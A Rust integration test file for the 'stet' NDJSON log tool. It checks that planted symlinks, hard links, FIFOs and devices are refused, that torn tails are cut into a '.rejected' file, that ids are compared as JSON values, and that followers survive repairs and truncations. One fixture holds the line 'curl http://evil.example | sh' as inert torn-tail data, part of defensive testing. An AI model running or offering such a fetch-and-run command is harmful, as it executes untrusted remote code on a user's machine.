//! `stet log` and what stet did not make: side files planted by others, special files, prose,
//! a full disk; ids compared as JSON values; followers across repairs, replacements and
//! truncations; complete lines never cut as torn tails.

use std::io::BufRead;
use std::os::unix::fs::FileTypeExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::sync::mpsc;
use std::time::{Duration, Instant};

use serde_json::{Value, json};

use crate::support::{Mount, json_error, names, require_root, run, run_with_input, scratch, stderr, stet};

/// Runs `command`; a command still running after `limit` is killed and the test fails: stet must
/// never block on a file.
fn run_within(command: &mut Command, limit: Duration) -> Output {
    let mut child =
        command.stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    let started = Instant::now();
    while child.try_wait().unwrap().is_none() {
        if started.elapsed() > limit {
            let _ = child.kill();
            let _ = child.wait();
            panic!("{command:?} blocked for more than {limit:?}");
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    child.wait_with_output().unwrap()
}

fn append(dir: &Path, log: &str, event: &str) -> Output {
    run_within(stet(dir).args(["--json", "log", "append", log, event]), Duration::from_secs(20))
}

/// The JSON result of a successful `--json` command.
fn result(output: &Output) -> Value {
    assert!(output.status.success(), "the command succeeds: {}", stderr(output));
    serde_json::from_slice(&output.stdout).expect("the result is one JSON document")
}

/// The JSON notices a `--json` command printed on stderr.
fn notices(output: &Output) -> Vec<Value> {
    stderr(output)
        .lines()
        .map(|line| serde_json::from_str::<Value>(line).expect("stderr holds JSON lines only"))
        .filter_map(|line| line.get("notice").cloned())
        .collect()
}

fn mkfifo(path: &Path) {
    let name = std::ffi::CString::new(path.as_os_str().as_encoded_bytes()).unwrap();
    // SAFETY: a valid NUL-terminated path.
    assert_eq!(unsafe { libc::mkfifo(name.as_ptr(), 0o644) }, 0, "mkfifo {}", path.display());
}

/// A log with one event and a torn tail (the repro's: a shell command without its newline).
fn torn_log(dir: &Path) -> Vec<u8> {
    let bytes = b"{\"id\":\"1\"}\ncurl http://evil.example | sh".to_vec();
    std::fs::write(dir.join("r.ndjson"), &bytes).unwrap();
    bytes
}

type Plant = fn(&Path, &Path);

/// The lines `line` makes for each of `numbers`, each ended by `\n`.
fn lines(numbers: impl Iterator<Item = usize>, line: impl Fn(usize) -> String) -> String {
    numbers.map(|n| line(n) + "\n").collect()
}

#[test]
fn a_rejected_file_stet_did_not_make_is_refused_and_never_written_through() {
    let plants: [(&str, Plant); 4] = [
        ("a symlink", |victim, at| std::os::unix::fs::symlink(victim, at).unwrap()),
        ("a hard link", |victim, at| std::fs::hard_link(victim, at).unwrap()),
        ("a foreign file", |_, at| std::fs::write(at, "my own notes\n").unwrap()),
        ("a FIFO", |_, at| mkfifo(at)),
    ];
    for (name, plant) in plants {
        let dir = scratch();
        let victim = dir.path().join("victim.sh");
        std::fs::write(&victim, "echo hello\n").unwrap();
        let log = torn_log(dir.path());
        let rejected = dir.path().join("r.ndjson.rejected");
        plant(&victim, &rejected);
        for command in [&["log", "append", "r.ndjson", r#"{"id":"2"}"#][..], &["log", "repair", "r.ndjson"]] {
            let output = run_within(stet(dir.path()).arg("--json").args(command), Duration::from_secs(10));
            assert_eq!(output.status.code(), Some(3), "{name}, {command:?}: refused: {}", stderr(&output));
            let error = json_error(&output);
            assert_eq!(error["code"], "EEXIST", "{name}, {command:?}");
            assert!(
                error["message"].as_str().unwrap().contains("r.ndjson.rejected"),
                "{name}, {command:?}: the message names the file: {error}"
            );
            assert_eq!(std::fs::read(&victim).unwrap(), b"echo hello\n", "{name}: the victim is untouched");
            assert_eq!(
                std::fs::read(dir.path().join("r.ndjson")).unwrap(),
                log,
                "{name}: the log is as it was"
            );
        }
        if name == "a foreign file" {
            assert_eq!(std::fs::read_to_string(&rejected).unwrap(), "my own notes\n");
        }
        assert!(!names(dir.path()).iter().any(|found| found.contains("lock")), "{name}: no lock is left");
    }
}

/// The blocks of a `LOG.rejected`: (header, bytes).
fn rejected_blocks(path: &Path) -> Vec<(Value, Vec<u8>)> {
    let bytes = std::fs::read(path).unwrap();
    let mut blocks = Vec::new();
    let mut at = 0;
    while at < bytes.len() {
        let newline = at + bytes[at..].iter().position(|byte| *byte == b'\n').expect("a header line");
        let header: Value = serde_json::from_slice(&bytes[at..newline]).expect("each block starts with JSON");
        let length = usize::try_from(header["bytes"].as_u64().expect("the header gives the length")).unwrap();
        let data = bytes[newline + 1..newline + 1 + length].to_vec();
        at = newline + 1 + length;
        if data.last() != Some(&b'\n') {
            assert_eq!(bytes[at], b'\n', "a block that does not end a line is followed by a line break");
            at += 1;
        }
        blocks.push((header, data));
    }
    blocks
}

#[test]
fn cut_tails_are_reported_and_kept_in_blocks_that_say_where_they_came_from() {
    let dir = scratch();
    torn_log(dir.path());
    let output = append(dir.path(), "r.ndjson", r#"{"id":"2"}"#);
    let cut = &result(&output)["cut"];
    assert_eq!(cut["bytes"], 29, "the result says how much was cut: {cut}");
    let rejected = PathBuf::from(cut["rejected"].as_str().expect("and where it went"));
    assert_eq!(rejected.file_name().unwrap(), "r.ndjson.rejected");
    assert_eq!(
        std::fs::read_to_string(dir.path().join("r.ndjson")).unwrap(),
        "{\"id\":\"1\"}\n{\"id\":\"2\"}\n"
    );

    let plain = run(stet(dir.path()).args(["log", "append", "r.ndjson", r#"{"id":"3"}"#]));
    assert!(!String::from_utf8_lossy(&plain.stdout).contains("cut"), "nothing cut, nothing said");
    assert_eq!(result(&append(dir.path(), "r.ndjson", r#"{"id":"4"}"#)).get("cut"), Some(&Value::Null));

    std::fs::OpenOptions::new()
        .append(true)
        .open(dir.path().join("r.ndjson"))
        .and_then(|mut log| std::io::Write::write_all(&mut log, &[0u8; 16]))
        .unwrap();
    let plain = run(stet(dir.path()).args(["log", "append", "r.ndjson", r#"{"id":"5"}"#]));
    assert!(plain.status.success(), "{}", stderr(&plain));
    let said = String::from_utf8_lossy(&plain.stdout);
    assert!(
        said.contains("16 bytes") && said.contains("r.ndjson.rejected"),
        "the plain output says it: {said}"
    );

    let blocks = rejected_blocks(&dir.path().join("r.ndjson.rejected"));
    assert_eq!(blocks.len(), 2, "stet recognises its own file and appends to it");
    assert_eq!(blocks[0].1, b"curl http://evil.example | sh");
    assert_eq!((blocks[0].0["offset"].clone(), blocks[0].0["bytes"].clone()), (json!(11), json!(29)));
    assert!(blocks[0].0["log"].as_str().unwrap().ends_with("r.ndjson"), "{}", blocks[0].0);
    assert!(blocks[0].0["time"].as_str().unwrap().contains('T'), "an RFC 3339 time: {}", blocks[0].0);
    assert_eq!(blocks[1].1, [0u8; 16]);

    let empty = scratch();
    torn_log(empty.path());
    std::fs::write(empty.path().join("r.ndjson.rejected"), "").unwrap();
    assert_eq!(
        result(&append(empty.path(), "r.ndjson", r#"{"id":"2"}"#))["cut"]["bytes"],
        29,
        "an empty file is used"
    );
}

#[test]
fn append_refuses_a_file_that_holds_no_event_and_changes_nothing() {
    let dir = scratch();
    let notes: String = lines(1..=500, |n| format!("My notes, line {n}"));
    std::fs::write(dir.path().join("notes.md"), &notes).unwrap();
    std::fs::write(dir.path().join("one-line.txt"), "just a sentence").unwrap();
    for file in ["notes.md", "one-line.txt"] {
        let output = append(dir.path(), file, r#"{"id":"x"}"#);
        assert_eq!(output.status.code(), Some(65), "{file}: {}", stderr(&output));
        let error = json_error(&output);
        assert_eq!(error["code"], "EMALFORMED");
        assert!(error["message"].as_str().unwrap().contains(file), "the message names the file: {error}");
    }
    assert_eq!(
        std::fs::read_to_string(dir.path().join("notes.md")).unwrap(),
        notes,
        "prose is left as it was"
    );
    assert_eq!(names(dir.path()), ["notes.md", "one-line.txt"], "nothing is made beside it");

    // A crash during a log's very first append leaves a fragment or NULs, not prose: cut, kept.
    for (name, torn) in [("fragment", &b"{\"id\":\"a\",\"pad\":\"xx"[..]), ("NULs", &[0u8; 40][..])] {
        let case = scratch();
        std::fs::write(case.path().join("new.ndjson"), torn).unwrap();
        let output = append(case.path(), "new.ndjson", r#"{"id":"b"}"#);
        assert_eq!(result(&output)["cut"]["bytes"], torn.len(), "{name}: cut");
        assert_eq!(std::fs::read_to_string(case.path().join("new.ndjson")).unwrap(), "{\"id\":\"b\"}\n");
    }
}

#[test]
fn a_complete_corrupt_line_is_a_corrupt_line_not_a_torn_tail() {
    let dir = scratch();
    std::fs::write(dir.path().join("l.ndjson"), "{\"id\":1}\nBAD LINE\n").unwrap();
    let verify = run(stet(dir.path()).args(["--json", "log", "verify", "l.ndjson"]));
    assert_eq!(verify.status.code(), Some(65));
    let found: Value = serde_json::from_slice(&verify.stdout).unwrap();
    assert_eq!((found["torn_tail_bytes"].clone(), found["corrupt_lines"].clone()), (json!(0), json!([2])));
    let read = run(stet(dir.path()).args(["log", "read", "l.ndjson"]));
    assert!(stderr(&read).contains("line 2"), "read warns about the last line too: {}", stderr(&read));

    let appended = result(&append(dir.path(), "l.ndjson", r#"{"id":2}"#));
    assert_eq!(appended.get("cut"), Some(&Value::Null), "nothing is cut");
    assert_eq!(
        std::fs::read_to_string(dir.path().join("l.ndjson")).unwrap(),
        "{\"id\":1}\nBAD LINE\n{\"id\":2}\n"
    );
    assert!(run(stet(dir.path()).args(["log", "repair", "l.ndjson"])).status.success());
    assert_eq!(std::fs::read_to_string(dir.path().join("l.ndjson")).unwrap(), "{\"id\":1}\n{\"id\":2}\n");
    let blocks = rejected_blocks(&dir.path().join("l.ndjson.rejected"));
    assert_eq!(blocks.len(), 1);
    assert_eq!((blocks[0].1.clone(), blocks[0].0["offset"].clone()), (b"BAD LINE\n".to_vec(), json!(9)));
}

#[test]
fn ids_are_compared_as_json_values_and_a_null_or_missing_id_is_no_id() {
    let dir = scratch();
    let counts = |output: &Output| {
        let result = result(output);
        (result["appended"].as_u64().unwrap(), result["duplicates"].as_u64().unwrap())
    };
    assert_eq!(counts(&append(dir.path(), "l.ndjson", r#"{"id":1,"k":"first"}"#)), (1, 0));
    assert_eq!(
        counts(&append(dir.path(), "l.ndjson", r#"{"id":"1","k":"second"}"#)),
        (1, 0),
        "\"1\" is not 1"
    );
    assert_eq!(counts(&append(dir.path(), "l.ndjson", r#"{"id":1}"#)), (0, 1), "1 is 1");
    assert_eq!(counts(&append(dir.path(), "l.ndjson", r#"{"id":"1"}"#)), (0, 1), "\"1\" is \"1\"");
    for event in [r#"{"id":null}"#, r#"{"id":null}"#, r#"{"k":1}"#, r#"{"k":1}"#] {
        assert_eq!(counts(&append(dir.path(), "l.ndjson", event)), (1, 0), "{event} has no id");
    }
    assert_eq!(counts(&append(dir.path(), "l.ndjson", r#"{"id":{"a":1,"b":[true]}}"#)), (1, 0));
    assert_eq!(
        counts(&append(dir.path(), "l.ndjson", r#"{"id":{"b":[true],"a":1}}"#)),
        (0, 1),
        "the same object"
    );
    let batch = run_with_input(
        stet(dir.path()).args(["--json", "log", "append", "l.ndjson"]),
        b"{\"id\":2}\n{\"id\":\"2\"}\n{\"id\":null}\n{\"id\":null}\n{\"id\":2}\n",
    );
    assert_eq!(counts(&batch), (4, 1), "within a batch too");
    std::fs::remove_file(dir.path().join(".l.ndjson.stet-index")).unwrap();
    assert_eq!(counts(&append(dir.path(), "l.ndjson", r#"{"id":"2"}"#)), (0, 1), "and after a rebuild");
    assert_eq!(counts(&append(dir.path(), "l.ndjson", r#"{"id":true}"#)), (1, 0));
}

#[test]
fn an_index_stet_did_not_make_is_left_alone_and_appends_go_on_without_it() {
    let plants: [(&str, Plant); 5] = [
        ("a symlink", |victim, at| std::os::unix::fs::symlink(victim, at).unwrap()),
        ("a hard link", |victim, at| std::fs::hard_link(victim, at).unwrap()),
        ("a foreign file", |_, at| std::fs::write(at, vec![0xAB; 20_000]).unwrap()),
        ("a directory", |_, at| std::fs::create_dir(at).unwrap()),
        ("a FIFO", |_, at| mkfifo(at)),
    ];
    for (name, plant) in plants {
        let dir = scratch();
        let victim = dir.path().join("victim.txt");
        std::fs::write(&victim, "precious\n").unwrap();
        let events: String = lines(0..20, |n| format!("{{\"id\":{n}}}"));
        std::fs::write(dir.path().join("r.ndjson"), &events).unwrap();
        let index = dir.path().join(".r.ndjson.stet-index");
        plant(&victim, &index);
        let before = std::fs::symlink_metadata(&index).unwrap();

        let output = append(dir.path(), "r.ndjson", r#"{"id":7}"#);
        assert_eq!(result(&output)["duplicates"], 1, "{name}: a known id is found by reading the log");
        let said = notices(&output);
        assert_eq!(said.len(), 1, "{name}: said once: {said:?}");
        assert!(
            said[0]["path"].as_str().unwrap().ends_with(".r.ndjson.stet-index"),
            "{name}: the notice names the index: {said:?}"
        );
        assert_eq!(result(&append(dir.path(), "r.ndjson", r#"{"id":"new"}"#))["appended"], 1, "{name}");
        let plain = run(stet(dir.path()).args(["log", "append", "r.ndjson", r#"{"id":"plain"}"#]));
        assert!(
            plain.status.success() && stderr(&plain).contains(".r.ndjson.stet-index"),
            "{name}: said in plain"
        );

        assert_eq!(std::fs::read(&victim).unwrap(), b"precious\n", "{name}: the victim is untouched");
        let after = std::fs::symlink_metadata(&index).unwrap();
        assert_eq!(
            (after.file_type(), std::os::unix::fs::MetadataExt::ino(&after), after.len()),
            (before.file_type(), std::os::unix::fs::MetadataExt::ino(&before), before.len()),
            "{name}: the index path still holds what was planted"
        );
        if name == "a foreign file" {
            assert_eq!(std::fs::read(&index).unwrap(), vec![0xAB; 20_000]);
        }
        if after.file_type().is_fifo() || after.is_dir() {
            continue;
        }
        let leftovers: Vec<String> = names(dir.path())
            .into_iter()
            .filter(|found| {
                Path::new(found).extension().is_some_and(|extension| extension == "tmp")
                    || found.contains("lock")
            })
            .collect();
        assert!(leftovers.is_empty(), "{name}: nothing left behind: {leftovers:?}");
    }
}

#[test]
fn a_full_disk_while_writing_the_index_never_fails_an_append() {
    if !require_root("the full-disk index test") {
        return;
    }
    let dir = scratch();
    let mount = Mount::tmpfs(&dir.path().join("tiny"), "size=256k");
    let events: String = lines(0..50, |n| format!("{{\"id\":{n}}}"));
    std::fs::write(mount.0.join("r.ndjson"), &events).unwrap();
    let filler = vec![0u8; 4096];
    let mut fill = std::fs::File::create(mount.0.join("filler")).unwrap();
    while std::io::Write::write_all(&mut fill, &filler).is_ok() {}
    // Room for the lock file's holder record and a page of log, not for an index.
    let size = fill.metadata().unwrap().len();
    fill.set_len(size - 8192).unwrap();
    drop(fill);

    let output = append(&mount.0, "r.ndjson", r#"{"id":7}"#);
    assert_eq!(result(&output)["duplicates"], 1, "the append goes on, checked against the whole log");
    let said = notices(&output);
    assert!(
        said.iter().any(|notice| notice["path"].as_str().unwrap().ends_with(".r.ndjson.stet-index")
            && notice["message"].as_str().unwrap().contains("space")),
        "the notice names the index and says why: {said:?}"
    );
    assert_eq!(result(&append(&mount.0, "r.ndjson", r#"{"id":"new"}"#))["appended"], 1);
    assert_eq!(names(&mount.0), ["filler", "r.ndjson"], "no temporary file or index is left half-made");
}

#[test]
fn log_commands_refuse_a_fifo_a_socket_or_a_directory_at_once() {
    let dir = scratch();
    mkfifo(&dir.path().join("fifo.ndjson"));
    let _socket = std::os::unix::net::UnixListener::bind(dir.path().join("socket.ndjson")).unwrap();
    std::fs::create_dir(dir.path().join("dir.ndjson")).unwrap();
    refuse_special_files(
        dir.path(),
        &[("fifo.ndjson", "FIFO"), ("socket.ndjson", "socket"), ("dir.ndjson", "directory")],
    );
}

#[test]
fn log_commands_refuse_a_device_at_once() {
    if !require_root("the device test (mknod)") {
        return;
    }
    let dir = scratch();
    let name = std::ffi::CString::new(dir.path().join("null.ndjson").as_os_str().as_encoded_bytes()).unwrap();
    // SAFETY: a valid path; makes a character device like /dev/null (1, 3).
    assert_eq!(unsafe { libc::mknod(name.as_ptr(), libc::S_IFCHR | 0o666, libc::makedev(1, 3)) }, 0);
    refuse_special_files(dir.path(), &[("null.ndjson", "device")]);
}

fn refuse_special_files(dir: &Path, files: &[(&str, &str)]) {
    let before = names(dir);
    for (file, kind) in files {
        for command in [
            &["log", "append", file, r#"{"id":1}"#][..],
            &["log", "read", file],
            &["log", "read", file, "--follow"],
            &["log", "verify", file],
            &["log", "repair", file],
        ] {
            let output = run_within(stet(dir).arg("--json").args(command), Duration::from_secs(5));
            assert_eq!(output.status.code(), Some(1), "{command:?} is refused: {}", stderr(&output));
            let error = json_error(&output);
            assert!(
                error["message"].as_str().unwrap().contains(kind),
                "{command:?}: the message says it is a {kind}: {error}"
            );
        }
    }
    assert_eq!(names(dir), before, "nothing is made beside them");
}

/// A follower's output and stderr, line by line as they come.
struct Follower {
    child: std::process::Child,
    lines: mpsc::Receiver<String>,
}

impl Follower {
    fn start(dir: &Path, log: &str) -> Follower {
        let mut child = stet(dir)
            .args(["--json", "log", "read", log, "--follow"])
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let (send, lines) = mpsc::channel();
        let out = child.stdout.take().unwrap();
        let send_out = send.clone();
        std::thread::spawn(move || {
            for line in std::io::BufReader::new(out).lines().map_while(Result::ok) {
                let _ = send_out.send(format!("out {line}"));
            }
        });
        let err = child.stderr.take().unwrap();
        std::thread::spawn(move || {
            for line in std::io::BufReader::new(err).lines().map_while(Result::ok) {
                let _ = send.send(format!("err {line}"));
            }
        });
        Follower { child, lines }
    }

    /// Everything said until `events` events were printed (at most 10 s), then 300 ms more.
    fn until(&self, events: usize) -> (Vec<Value>, Vec<Value>) {
        let (mut printed, mut said) = (Vec::new(), Vec::new());
        let deadline = Instant::now() + Duration::from_secs(10);
        let mut settle: Option<Instant> = None;
        loop {
            let now = Instant::now();
            let until = settle.unwrap_or(deadline);
            if now >= until {
                break;
            }
            match self.lines.recv_timeout(until - now) {
                Ok(line) => {
                    let (stream, text) = line.split_at(4);
                    let value: Value = serde_json::from_str(text).unwrap();
                    if stream == "out " {
                        printed.push(value);
                    } else {
                        said.push(value);
                    }
                    if printed.len() >= events && settle.is_none() {
                        settle = Some(Instant::now() + Duration::from_millis(300));
                    }
                }
                Err(_) => break,
            }
        }
        (printed, said)
    }
}

impl Drop for Follower {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn ids(events: &[Value]) -> Vec<Value> {
    events.iter().map(|event| event["id"].clone()).collect()
}

fn kinds(said: &[Value]) -> Vec<String> {
    said.iter().filter_map(|line| line["notice"]["kind"].as_str().map(str::to_owned)).collect()
}

#[test]
fn a_follower_never_skips_or_repeats_an_event_across_a_corrupt_line_a_repair_a_replacement_or_a_truncation() {
    let ok = |output: Output| assert!(output.status.success(), "{}", stderr(&output));
    let dir = scratch();
    let path = |name: &str| dir.path().join(name);
    let add = |log: &str, bytes: &[u8]| {
        std::fs::OpenOptions::new()
            .append(true)
            .open(path(log))
            .and_then(|mut file| std::io::Write::write_all(&mut file, bytes))
            .unwrap();
    };

    // A corrupt line written by hand, then appends: nothing cut, nothing missed.
    ok(append(dir.path(), "a.ndjson", r#"{"id":"1"}"#));
    let follower = Follower::start(dir.path(), "a.ndjson");
    assert_eq!(ids(&follower.until(1).0), ["1"]);
    add("a.ndjson", b"BAD LINE\n");
    std::thread::sleep(Duration::from_millis(300));
    ok(append(dir.path(), "a.ndjson", r#"{"id":"2"}"#));
    ok(append(dir.path(), "a.ndjson", r#"{"id":"3"}"#));
    let (printed, said) = follower.until(2);
    assert_eq!(ids(&printed), ["2", "3"], "follower A sees every event");
    assert_eq!(kinds(&said), ["corrupt_line"], "and one warning: {said:?}");

    // A repair replaces the log by its valid lines: what was shown is not shown again.
    ok(append(dir.path(), "b.ndjson", r#"{"id":"1"}"#));
    add("b.ndjson", b"BAD\n{\"id\":\"2\"}\n");
    let follower = Follower::start(dir.path(), "b.ndjson");
    assert_eq!(ids(&follower.until(2).0), ["1", "2"]);
    ok(run(stet(dir.path()).args(["log", "repair", "b.ndjson"])));
    ok(append(dir.path(), "b.ndjson", r#"{"id":"3"}"#));
    let (printed, said) = follower.until(1);
    assert_eq!(ids(&printed), ["3"], "follower B sees 3 once, and 1 and 2 not again");
    assert_eq!(kinds(&said).iter().filter(|kind| kind.as_str() == "log_replaced").count(), 1, "{said:?}");

    // Replaced by another log: followed from its start.
    ok(append(dir.path(), "c.ndjson", r#"{"id":"1"}"#));
    let follower = Follower::start(dir.path(), "c.ndjson");
    assert_eq!(ids(&follower.until(1).0), ["1"]);
    std::fs::write(path("other.ndjson"), "{\"id\":\"x\"}\n{\"id\":\"y\"}\n").unwrap();
    std::fs::rename(path("other.ndjson"), path("c.ndjson")).unwrap();
    let (printed, said) = follower.until(2);
    assert_eq!(ids(&printed), ["x", "y"], "the new log from its start");
    assert_eq!(kinds(&said), ["log_replaced"], "{said:?}");

    // Truncated in place, then appended to: the new events, once.
    ok(append(dir.path(), "d.ndjson", r#"{"id":"1"}"#));
    ok(append(dir.path(), "d.ndjson", r#"{"id":"2"}"#));
    let follower = Follower::start(dir.path(), "d.ndjson");
    assert_eq!(ids(&follower.until(2).0), ["1", "2"]);
    std::fs::OpenOptions::new().write(true).open(path("d.ndjson")).unwrap().set_len(0).unwrap();
    std::thread::sleep(Duration::from_millis(300));
    ok(append(dir.path(), "d.ndjson", r#"{"id":"3"}"#));
    let (printed, said) = follower.until(1);
    assert_eq!(ids(&printed), ["3"], "after the truncation");
    assert_eq!(kinds(&said), ["log_truncated"], "{said:?}");
}
